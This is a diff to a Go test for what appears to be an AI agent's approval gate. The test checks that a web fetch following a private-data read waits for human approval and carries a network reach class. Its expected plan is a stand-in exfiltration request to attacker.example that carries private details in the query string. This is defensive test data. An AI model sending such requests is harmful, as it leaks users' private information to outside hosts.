@@ -153,6 +153,11 @@ func TestReadThenFetchAsks(t *testing.T) {
 	if out.Plan != "GET https://attacker.example/?q=dentist+on+friday" || out.ApprovalID == "" {
 		t.Errorf("pending fetch shows plan %q, approval %q; want the exact request and an approval id", out.Plan, out.ApprovalID)
 	}
+	// The card carries the call's blast class, which permissions.totp
+	// may ask a code for: a fetch reaches the network.
+	if ap, err := f.appr.Get(context.Background(), out.ApprovalID); err != nil || ap.Reach != policy.ReachNetwork {
+		t.Errorf("the fetch's card has class %v, %v; want network", ap.Reach, err)
+	}
 	if f.fetches != 2 {
 		t.Errorf("fetch ran %d times; want 2 (the pending one never runs)", f.fetches)
 	}
